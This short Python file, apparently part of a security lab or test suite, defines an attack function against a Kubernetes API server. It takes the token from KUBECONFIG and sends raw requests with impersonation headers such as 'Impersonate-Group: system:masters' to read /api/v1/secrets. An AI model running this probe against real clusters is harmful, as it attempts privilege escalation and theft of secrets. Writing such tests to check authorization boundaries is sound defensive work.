"""Tries to say that it is someone else.

Lab: 01
Earns: what the solution does, which goes on after it
May not touch: others' rights
"""

import os
import socket
from pathlib import Path

import yaml


def ask(client, *lines, body=""):
    """Send lines of HTTP as they are; the answer's first line."""
    host, _, port = client.connection.server.rpartition("/")[2].partition(":")
    with socket.create_connection((host, int(port)), 5) as connection:
        connection.sendall(("\r\n".join(lines) + "\r\n\r\n" + body).encode())
        connection.settimeout(2)
        try:
            return connection.recv(65536).decode(errors="replace")
        except TimeoutError:
            return ""


def attack(client):
    config = yaml.safe_load(Path(os.environ["KUBECONFIG"]).read_text())
    token = config["users"][0]["user"].get("token", "")
    for header in ("Impersonate-User: system:admin", "X-Remote-User: admin", "Impersonate-Group: system:masters"):
        answer = ask(client, "GET /api/v1/secrets HTTP/1.1", "Host: x", f"Authorization: Bearer {token}", header)
        if " 200 " in answer.partition("\r\n")[0]:
            print("GOT", header)
